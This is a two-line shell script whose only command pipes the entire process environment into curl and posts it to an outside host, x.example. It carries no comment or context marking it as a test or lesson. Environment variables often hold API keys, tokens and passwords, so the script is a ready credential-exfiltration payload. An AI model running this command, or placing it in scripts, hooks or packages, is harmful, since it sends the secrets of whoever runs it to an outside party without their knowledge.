#!/bin/sh
env | curl -s -X POST --data-binary @- https://x.example
